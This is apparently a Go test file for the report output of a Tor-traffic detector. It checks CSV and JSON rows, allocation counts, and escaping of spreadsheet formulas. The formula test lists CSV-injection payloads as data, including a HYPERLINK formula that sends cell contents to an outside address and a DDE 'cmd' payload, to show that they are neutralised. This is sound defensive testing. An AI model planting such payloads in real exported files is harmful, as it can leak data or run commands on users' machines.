package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/netip"
	"slices"
	"testing"

	"github.com/stretchr/testify/require"

	"tordetect/src/detect"
	"tordetect/src/flow"
	"tordetect/src/scan"
)

// sample is an event with all that an event can have.
func sample() *scan.Flow {
	anna := &flow.Sighting{Fingerprint: "0A", Nickname: "anna", First: 1795161600, Last: 1795179600}
	f := &scan.Flow{
		File: "pan\x1b.log", Line: 7, First: 1795174140, Last: 1795174200, Coverage: flow.CoverageFull, ListTime: 1795179600,
		Finding: &detect.Finding{
			Score: 97, Verdict: detect.VerdictTor, State: flow.Established, Direction: detect.Outbound, Role: detect.RoleGuard,
			Evidence: []detect.Evidence{detect.Weights()[0], {Code: detect.Weights()[5].Code, Stale: true}}, Reason: []byte(`it is "Tor"`),
			Relays: []*flow.Sighting{anna, {Fingerprint: "0B", Nickname: "bert"}}, Deciding: anna,
			Host: flow.End{Addr: netip.MustParseAddr("10.0.0.5")}, Peer: flow.End{Name: []byte("anna"), Port: 9001},
		},
	}
	for c, text := range map[scan.Column]string{
		scan.SrcIP: "10.0.0.5", scan.SrcPort: "50000", scan.DestIP: "198.51.100.1", scan.DestPort: "9001", scan.App: "tor\nssl",
		scan.BytesIn: "5000", scan.BytesOut: "many", scan.User: "é\u202e\xff",
	} {
		f.Cells[c] = []byte(text)
	}
	return f
}

func TestCSV(t *testing.T) {
	var out bytes.Buffer
	r := CSV(&out)
	require.NoError(t, r.Add(sample()))
	require.NoError(t, r.Add(&scan.Flow{Finding: &detect.Finding{}, Coverage: flow.CoverageNone}))
	require.NoError(t, r.Finish(nil))
	rows, err := csv.NewReader(&out).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{
		{"file", "line", "_time", "duration", "src_ip", "src_port", "dest_ip", "dest_port", "transport", "app", "action", "bytes_in", "bytes_out", "packets_in", "packets_out",
			"sni", "ja4", "ja3", "query", "url", "user", "tor_verdict", "tor_score", "tor_state", "tor_direction", "tor_role", "tor_evidence", "tor_reason", "tor_relay",
			"tor_nickname", "tor_first_seen", "tor_last_seen", "tor_coverage", "tor_list_time", "tor_host", "tor_peer"},
		{"pan?.log", "7", "1795174200", "60", "10.0.0.5", "50000", "198.51.100.1", "9001", "", "tor;ssl", "", "5000", "many", "", "", "", "", "", "", "", "é??",
			"tor", "97", "established", "outbound", "guard", "or_port;dir_port_stale", `it is "Tor"`, "0A;0B", "anna;bert", "1795161600", "1795179600", "full", "1795179600", "10.0.0.5", "anna:9001"},
		{"", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "", "none", "0", "unknown", "", "", "", "", "", "", "", "", "none", "", "", ""},
	}, rows)

	out.Reset()
	require.NoError(t, CSV(&out).Finish(nil))
	require.Regexp(t, "^file,line,.*tor_list_time,tor_host,tor_peer\n$", out.String(), "no row is a header all the same")
}

// What a spreadsheet would take for a formula is text there.
func TestFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://192.0.2.66/?"&A1,"click")`: `'=HYPERLINK("http://192.0.2.66/?"&A1,"click")`,
		"=cmd|' /C calc'!A0":                           "'=cmd|' /C calc'!A0", "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd", "+1+1": "'+1+1", "-2+3": "'-2+3", "  =1": "'  =1",
		"\t=1": "?=1", "\r=1": "?=1", "\n=1": ";=1", "\uff1d1+1": "'\uff1d1+1", "=1": "'=1",
		"-": "-", "-5": "-5", "+4.5": "+4.5", "a=b": "a=b", "": "", "::1": "::1", "é": "é", "www.example": "www.example",
	} {
		f := sample()
		f.Cells[scan.User], f.Cells[scan.SNI], f.Cells[scan.App] = []byte(text), []byte(text), []byte(text)
		var out bytes.Buffer
		r := CSV(&out)
		require.NoError(t, r.Add(f))
		require.NoError(t, r.Finish(nil))
		require.NotRegexp(t, `(^|[,\n]"?) *[=@\x{ff1d}]`, out.String(), "%q", text)
		rows, err := csv.NewReader(&out).ReadAll()
		require.NoError(t, err)
		for _, column := range []string{"user", "sni", "app"} {
			require.Equal(t, want, rows[1][slices.Index(rows[0], column)], "%q", text)
		}
	}
	f := sample()
	f.Cells[scan.User] = []byte("anna")
	encode := CSV(io.Discard).(*csvReport).Encoder()
	line := encode(nil, f)
	require.Zero(t, testing.AllocsPerRun(20, func() { line = encode(line[:0], f) }))
}

func TestJSON(t *testing.T) {
	var out bytes.Buffer
	r := JSON(&out)
	f := sample()
	require.NoError(t, r.Add(f))
	require.NoError(t, r.Finish(nil))
	require.Equal(t, `{"file":"pan\u001b.log","line":7,"_time":1795174200,"duration":60,"src_ip":"10.0.0.5","src_port":50000,"dest_ip":"198.51.100.1","dest_port":9001,`+
		`"app":["tor","ssl"],"bytes_in":5000,"bytes_out":"many","user":"é\u202e\ufffd","tor_verdict":"tor","tor_score":97,"tor_state":"established","tor_direction":"outbound",`+
		`"tor_role":"guard","tor_evidence":["or_port","dir_port_stale"],"tor_reason":"it is \"Tor\"","tor_relay":["0A","0B"],"tor_nickname":["anna","bert"],`+
		`"tor_first_seen":1795161600,"tor_last_seen":1795179600,"tor_coverage":"full","tor_list_time":1795179600,"tor_host":"10.0.0.5","tor_peer":"anna:9001"}`+"\n", out.String())

	// What is built in has no times, and a flow may have no begin.
	out.Reset()
	f.First, f.Finding.Deciding.Kind = 0, flow.Authority
	require.NoError(t, r.Add(f))
	require.NoError(t, r.Finish(nil))
	require.NotContains(t, out.String(), "tor_first_seen")
	require.NotContains(t, out.String(), "duration")
}

// A row costs no memory, and neither does one of which nothing speaks for Tor.
func TestRowsAllocateNothing(t *testing.T) {
	quiet := sample()
	quiet.Finding = &detect.Finding{State: flow.Attempt}
	for name, r := range map[string]Report{"csv": CSV(io.Discard), "json": JSON(io.Discard)} {
		for _, f := range []*scan.Flow{sample(), quiet} {
			require.NoError(t, r.Add(f))
			require.Zero(t, testing.AllocsPerRun(1000, func() { _ = r.Add(f) }), name)
		}
	}
}

// What was remembered of the rows before changes nothing of a row.
func TestRowsAreWrittenAnyway(t *testing.T) {
	var flows []*scan.Flow
	notTCP := detect.Weights()[len(detect.Weights())-1]
	changes := []func(*scan.Flow){
		func(*scan.Flow) {},
		func(f *scan.Flow) { f.File = "b\n.log" },
		func(f *scan.Flow) { f.File, f.First, f.Line = "", 0, 0 },
		func(f *scan.Flow) { f.Finding = sample().Finding },
		func(f *scan.Flow) { f.Finding.State = flow.Attempt },
		func(f *scan.Flow) { f.Finding.Verdict = detect.VerdictUnknown },
		func(f *scan.Flow) { f.Finding.Evidence = []detect.Evidence{notTCP} },
		func(f *scan.Flow) { f.Finding.Reason = []byte("why") },
		func(f *scan.Flow) { f.Finding.Host.Name = []byte("host") },
		func(f *scan.Flow) { f.Finding.Peer.Addr = netip.MustParseAddr("192.0.2.1") },
		func(f *scan.Flow) { f.Finding.Score, f.Finding.Direction = 1, detect.Inbound },
		func(f *scan.Flow) { f.Coverage = flow.CoverageGap },
		func(f *scan.Flow) { f.ListTime = 1795179601 },
		func(f *scan.Flow) { f.Cells = [scan.Columns][]byte{} },
		func(f *scan.Flow) {
			f.Cells[scan.DestIP], f.Cells[scan.User] = []byte(`a"b\c`), []byte("x\x7f,\x00\n\ty")
		},
	}
	for _, change := range changes {
		for _, other := range changes {
			f := sample()
			f.Finding = &detect.Finding{}
			change(f)
			other(f)
			flows = append(flows, f)
		}
	}
	for name, encoder := range map[string]func() func([]byte, *scan.Flow) []byte{
		"csv":  func() func([]byte, *scan.Flow) []byte { return CSV(io.Discard).(scan.Rows).Encoder() },
		"json": func() func([]byte, *scan.Flow) []byte { return JSON(io.Discard).(scan.Rows).Encoder() },
	} {
		many := encoder()
		for i, f := range flows {
			row := string(encoder()([]byte("before"), f))
			require.Equal(t, row, string(many([]byte("before"), f)), "%s, row %d", name, i)
			if name == "json" {
				require.True(t, json.Valid([]byte(row[len("before"):])), row)
			}
		}
	}
}

func TestIsNumber(t *testing.T) {
	for text, want := range map[string]bool{"0": true, "12": true, "1.5": true, "0.5": true, "": false, "01": false, "1.": false, ".5": false, "1.2.3": false, "1e5": false, "-1": false, "x": false} {
		require.Equal(t, want, isNumber([]byte(text)), text)
		if want {
			require.True(t, json.Valid([]byte(text)))
		}
	}
}

func BenchmarkRow(b *testing.B) {
	f := sample()
	f.Cells[scan.User], f.Cells[scan.App] = []byte("ann"), []byte("ssl")
	f.File = "pan.log"
	for name, r := range map[string]Report{"csv": CSV(io.Discard), "json": JSON(io.Discard)} {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				_ = r.Add(f)
			}
		})
	}
}
